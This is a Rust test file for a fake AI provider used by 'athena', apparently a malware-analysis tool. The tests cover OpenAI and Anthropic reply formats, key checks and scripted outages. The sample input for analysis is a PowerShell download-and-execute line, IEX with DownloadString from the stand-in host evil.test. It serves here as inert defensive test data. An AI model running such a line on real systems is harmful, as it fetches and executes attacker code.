//! The fake provider over HTTP: both reply shapes read by Athena's own clients, `/control`
//! to script failures, hangs and recoveries, and the `athena fake-provider` command itself.

mod fakes;

use std::io::BufRead;
use std::time::Duration;

use athena::fake_provider::banner;
use athena_actors::provider::{
    build_prompt, parse_reply, AiTask, AiTaskKind, ProviderClient, ProviderError, ProviderKind,
    RetryConfig,
};
use fakes::{control, start_fake, state};
use serde_json::{json, Value};

fn task(kind: AiTaskKind) -> AiTask {
    AiTask {
        kind,
        file_name: "loader.ps1".into(),
        file_type: "powershell",
        content: "IEX (New-Object Net.WebClient).DownloadString('http://evil.test/a')".into(),
        metasploit: true,
    }
}

fn client(kind: ProviderKind, base_url: &str, timeout: Duration) -> ProviderClient {
    let once = RetryConfig { max_attempts: 1, ..RetryConfig::default() };
    ProviderClient::new(kind, base_url, "fake-model", Some("k".into()), timeout, 512, 0.0)
        .with_retry(once)
}

#[actix_rt::test]
async fn both_shapes_answer_in_the_layout_the_prompt_asked_for() {
    let fake = start_fake(5);
    for kind in [ProviderKind::Openai, ProviderKind::Anthropic] {
        let c = client(kind, &fake.base_url(), Duration::from_secs(5));
        let t = task(AiTaskKind::Deobfuscate);
        let text = c.complete(&build_prompt(&t), None, |_| {}).await.unwrap();
        assert_eq!(text, c.complete(&build_prompt(&t), None, |_| {}).await.unwrap());
        let out = parse_reply(&t, &text, "fake-model");
        assert!(out.deobfuscated_code.unwrap().contains("DownloadString"), "{text}");
        assert!(out.analysis_report.unwrap().contains("FAKE model"));

        let t = task(AiTaskKind::Vulnerabilities);
        let text = c.complete(&build_prompt(&t), None, |_| {}).await.unwrap();
        let out = parse_reply(&t, &text, "fake-model");
        assert!(!out.vulnerabilities.is_empty(), "{text}");
        assert!(out.vulnerabilities.iter().all(|v| v.metasploit_module.is_some()));
    }

    // The raw shapes, as other clients of the same APIs would read them.
    let http = reqwest::Client::new();
    let prompt = build_prompt(&task(AiTaskKind::Deobfuscate)).user;
    let openai: Value = http
        .post(format!("{}/chat/completions", fake.base_url()))
        .bearer_auth("k")
        .json(&json!({"model": "fake-x", "messages": [{"role": "user", "content": prompt}]}))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(openai["object"], "chat.completion");
    assert_eq!(openai["model"], "fake-x");
    assert_eq!(openai["choices"][0]["message"]["role"], "assistant");
    let blocks = json!([{"type": "text", "text": prompt}]);
    let anthropic: Value = http
        .post(format!("{}/messages", fake.base_url()))
        .header("x-api-key", "k")
        .header("anthropic-version", "2023-06-01")
        .json(&json!({"model": "fake-x", "max_tokens": 64,
                      "messages": [{"role": "user", "content": blocks}]}))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(anthropic["type"], "message");
    assert_eq!(anthropic["content"][0]["type"], "text");
    assert_eq!(
        anthropic["content"][0]["text"], openai["choices"][0]["message"]["content"],
        "the same prompt gets the same answer in either shape"
    );
    assert_eq!(state(&fake).await["requests"], 8);
    fake.stop().await;
}

#[actix_rt::test]
async fn requests_without_a_key_are_refused() {
    let fake = start_fake(6);
    let http = reqwest::Client::new();
    let body = json!({"model": "m", "messages": [{"role": "user", "content": "hi"}]});
    let no_key = http.post(format!("{}/chat/completions", fake.base_url())).json(&body);
    assert_eq!(no_key.send().await.unwrap().status(), 401);
    let no_key = http.post(format!("{}/messages", fake.base_url())).json(&body);
    assert_eq!(no_key.send().await.unwrap().status(), 401);
    let no_version =
        http.post(format!("{}/messages", fake.base_url())).header("x-api-key", "k").json(&body);
    assert_eq!(no_version.send().await.unwrap().status(), 400);
    fake.stop().await;
}

#[actix_rt::test]
async fn control_scripts_an_outage_a_hang_and_a_recovery() {
    let fake = start_fake(7);
    let initial = state(&fake).await;
    assert_eq!(initial["latency"], "0s");
    assert_eq!(initial["error_rate"], 0.0);
    assert_eq!(initial["error_status"], 503);
    assert_eq!(initial["hang_rate"], 0.0);
    assert_eq!(initial["requests"], 0);

    // Invalid updates are refused whole, naming the field.
    let http = reqwest::Client::new();
    for (update, field) in [
        (json!({"error_rate": 2.0}), "error_rate"),
        (json!({"error_status": 200, "latency": "1s"}), "error_status"),
        (json!({"errorRate": 1.0}), "errorRate"),
        (json!({"latency": "soon"}), "latency"),
    ] {
        let response =
            http.put(format!("http://{}/control", fake.addr)).json(&update).send().await.unwrap();
        assert_eq!(response.status(), 400, "{update}");
        let body: Value = response.json().await.unwrap();
        assert!(body["error"]["message"].as_str().unwrap().contains(field), "{body}");
    }
    assert_eq!(state(&fake).await["latency"], "0s", "nothing changed");

    let c = client(ProviderKind::Openai, &fake.base_url(), Duration::from_millis(200));
    let prompt = build_prompt(&task(AiTaskKind::Deobfuscate));
    let now = control(&fake, json!({"error_rate": 1.0, "error_status": 429})).await;
    assert_eq!(now["error_rate"], 1.0);
    let err = c.complete(&prompt, None, |_| {}).await.unwrap_err();
    assert!(matches!(err, ProviderError::Status { status: 429, .. }), "{err:?}");

    // A hang: the client's own (short, real) timeout ends it.
    control(&fake, json!({"error_rate": 0.0, "hang_rate": 1.0})).await;
    let err = c.complete(&prompt, None, |_| {}).await.unwrap_err();
    assert_eq!(err, ProviderError::Timeout(Duration::from_millis(200)));

    let now = control(&fake, json!({"hang_rate": 0.0, "latency": "5ms", "jitter": "1ms"})).await;
    assert_eq!((&now["latency"], &now["jitter"]), (&json!("5ms"), &json!("1ms")));
    assert!(c.complete(&prompt, None, |_| {}).await.is_ok(), "recovered");
    let counters = state(&fake).await;
    assert_eq!(
        (&counters["requests"], &counters["errors"], &counters["hangs"]),
        (&json!(3), &json!(1), &json!(1))
    );
    fake.stop().await;
}

#[test]
fn the_command_says_it_is_a_fake_and_serves_until_stopped() {
    let addr = "127.0.0.1:9".parse().unwrap();
    let text = banner(addr);
    assert!(text.starts_with("athena fake-provider: a FAKE AI provider for tests and demos"));
    assert!(text.contains("listening on http://127.0.0.1:9"));

    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_athena"))
        .args(["fake-provider", "--bind", "127.0.0.1:0", "--error-rate", "1", "--seed", "1"])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("the binary starts");
    let stdout = child.stdout.take().unwrap();
    let mut lines = std::io::BufReader::new(stdout).lines();
    let first = lines.next().unwrap().unwrap();
    assert!(first.contains("a FAKE AI provider"), "{first}");
    let second = lines.next().unwrap().unwrap();
    let addr = second
        .strip_prefix("listening on http://")
        .and_then(|rest| rest.split_whitespace().next())
        .unwrap_or_else(|| panic!("no address in {second:?}"))
        .to_string();
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    let control: Value = runtime.block_on(async {
        let response = reqwest::get(format!("http://{addr}/control")).await.expect("served");
        response.json().await.expect("JSON state")
    });
    assert_eq!(control["error_rate"], 1.0, "options reach the server");
    child.kill().unwrap();
    child.wait().unwrap();
}
